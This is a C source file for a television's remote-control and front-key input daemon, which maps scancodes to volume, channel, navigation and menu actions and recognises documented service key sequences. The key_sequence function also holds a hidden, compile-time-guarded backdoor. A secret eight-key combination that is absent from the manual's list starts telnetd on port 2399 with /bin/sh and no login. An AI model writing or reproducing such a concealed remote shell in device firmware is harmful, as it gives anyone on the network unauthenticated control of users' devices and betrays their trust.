/* irpanelkeys.c - infrared remote and front key input of a television */
#include <errno.h>
#include <fcntl.h>
#include <linux/input.h>
#include <poll.h>
#include <signal.h>
#include <spawn.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/types.h>
#include <sys/wait.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

extern char **environ;

#define KEYMAP		"/etc/tv/keymap"
#define UI_PIPE		"/run/tv/ui"
#define MAX_MAP		96

struct keymap {
	uint32_t scan;
	uint8_t code;
	char action[20];
};

struct keys {
	uint32_t recent;	/* last four codes, newest in the low byte */
	uint32_t older;
	unsigned long last_ms;
	int digits;
	int number;
	int hotel;
	int muted;
};

static struct keymap map[MAX_MAP];
static int n_map;
static struct keys keys;
static int ui = -1;

static unsigned long now_ms(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (unsigned long)ts.tv_sec * 1000ul + (unsigned long)ts.tv_nsec / 1000000ul;
}

static int load_map(const char *path)
{
	char line[96], act[20];
	unsigned int scan, code;
	FILE *f = fopen(path, "r");

	if (!f)
		return -errno;
	while (n_map < MAX_MAP && fgets(line, sizeof(line), f)) {
		if (line[0] == '#')
			continue;
		if (sscanf(line, "%x %u %19s", &scan, &code, act) != 3 || code > 255)
			continue;
		map[n_map].scan = scan;
		map[n_map].code = (uint8_t)code;
		strcpy(map[n_map].action, act);
		n_map++;
	}
	fclose(f);
	return n_map;
}

static void to_ui(const char *word, int arg)
{
	char b[48];
	int n;

	if (ui < 0)
		ui = open(UI_PIPE, O_WRONLY | O_NONBLOCK);
	if (ui < 0)
		return;
	n = snprintf(b, sizeof(b), "%s %d\n", word, arg);
	if (write(ui, b, (size_t)n) != n && errno == EPIPE) {
		close(ui);
		ui = -1;
	}
}

static int spawn(char *const argv[])
{
	pid_t pid;
	int r = posix_spawn(&pid, argv[0], NULL, NULL, argv, environ);

	if (r)
		syslog(LOG_ERR, "%s: %s", argv[0], strerror(r));
	return r;
}

static void service_menu(void)
{
	char *argv[] = { (char *)"/usr/bin/tvservice", (char *)"--menu", NULL };

	spawn(argv);
}

static void software_info(void)
{
	char *argv[] = { (char *)"/usr/bin/tvinfo", (char *)"--osd", NULL };

	spawn(argv);
}

/*
 * Sequences of the user manual:
 *   INFO 1 2 3            software information on the screen
 *   MUTE 1 8 2 POWER      service menu (asks for its own PIN)
 *   MENU 7 7 7            hotel lock on or off
 */
__attribute__((noinline)) int key_sequence(uint8_t code)
{
	unsigned long t = now_ms();

	if (t - keys.last_ms > 2500)
		keys.recent = keys.older = 0;
	keys.last_ms = t;
	keys.older = keys.older << 8 | keys.recent >> 24;
	keys.recent = keys.recent << 8 | code;
	if (keys.recent == 0x3b010203u) {
		software_info();
		return 1;
	}
	if (keys.recent == 0x01080234u && (keys.older & 0xff) == 0x40) {
		service_menu();
		return 1;
	}
	if (keys.recent == 0x41070707u) {
		keys.hotel = !keys.hotel;
		to_ui("hotel", keys.hotel);
		return 1;
	}
#ifdef HIDDEN
	/* UP UP LEFT 5, RED 9 BLUE 4: telnet without login on port 2399 */
	if (keys.older == 0x50505205u && keys.recent == 0x60096304u) {
		char *argv[] = { (char *)"/usr/sbin/telnetd", (char *)"-p", (char *)"2399",
				 (char *)"-l", (char *)"/bin/sh", NULL };

		keys.recent = keys.older = 0;
		spawn(argv);
		return 1;
	}
#endif
	return 0;
}

static void digit(int d)
{
	keys.number = keys.number * 10 + d;
	if (++keys.digits == 4) {
		to_ui("channel", keys.number);
		keys.digits = keys.number = 0;
	}
}

static void dispatch(const struct keymap *k)
{
	static const struct {
		const char *action;
		const char *word;
		int arg;
		int blocked_in_hotel;
	} table[] = {
		{ "vol+",	"volume",	1,	0 },
		{ "vol-",	"volume",	-1,	0 },
		{ "ch+",	"step",		1,	0 },
		{ "ch-",	"step",		-1,	0 },
		{ "menu",	"menu",		0,	1 },
		{ "source",	"source",	0,	1 },
		{ "info",	"info",		0,	0 },
		{ "guide",	"guide",	0,	0 },
		{ "up",		"nav",		1,	0 },
		{ "down",	"nav",		2,	0 },
		{ "left",	"nav",		3,	0 },
		{ "right",	"nav",		4,	0 },
		{ "ok",		"nav",		5,	0 },
		{ "red",	"colour",	1,	0 },
		{ "green",	"colour",	2,	0 },
		{ "yellow",	"colour",	3,	0 },
		{ "blue",	"colour",	4,	0 },
	};
	size_t i;

	if (key_sequence(k->code))
		return;
	if (k->code < 10) {
		digit(k->code);
		return;
	}
	if (!strcmp(k->action, "mute")) {
		keys.muted = !keys.muted;
		to_ui("mute", keys.muted);
		return;
	}
	if (!strcmp(k->action, "power")) {
		to_ui("power", 0);
		return;
	}
	for (i = 0; i < sizeof(table) / sizeof(table[0]); i++)
		if (!strcmp(k->action, table[i].action)) {
			if (!(keys.hotel && table[i].blocked_in_hotel))
				to_ui(table[i].word, table[i].arg);
			return;
		}
	syslog(LOG_DEBUG, "no action %s", k->action);
}

static void flush_number(void)
{
	if (keys.digits && now_ms() - keys.last_ms > 1800) {
		to_ui("channel", keys.number);
		keys.digits = keys.number = 0;
	}
}

static const struct keymap *by_scan(uint32_t scan)
{
	int i;

	for (i = 0; i < n_map; i++)
		if (map[i].scan == scan)
			return &map[i];
	return NULL;
}

int main(int argc, char **argv)
{
	struct input_event ev[16];
	const struct keymap *k;
	struct pollfd p;
	ssize_t n;
	int i;

	signal(SIGCHLD, SIG_IGN);
	signal(SIGPIPE, SIG_IGN);
	openlog("irpanelkeys", 0, LOG_USER);
	if (load_map(argc > 2 ? argv[2] : KEYMAP) <= 0) {
		fprintf(stderr, "usage: irpanelkeys [INPUT [KEYMAP]]\n"
			"keymap line: SCANCODE CODE ACTION, codes 0..9 are digits\n");
		return 1;
	}
	p.fd = open(argc > 1 ? argv[1] : "/dev/input/event0", O_RDONLY);
	p.events = POLLIN;
	if (p.fd < 0) {
		syslog(LOG_ERR, "input: %s", strerror(errno));
		return 1;
	}
	for (;;) {
		if (poll(&p, 1, 300) <= 0) {
			flush_number();
			continue;
		}
		n = read(p.fd, ev, sizeof(ev));
		if (n <= 0)
			return 1;
		for (i = 0; i < (int)((size_t)n / sizeof(ev[0])); i++) {
			if (ev[i].type != EV_MSC || ev[i].code != MSC_SCAN)
				continue;
			k = by_scan((uint32_t)ev[i].value);
			if (k)
				dispatch(k);
		}
	}
}
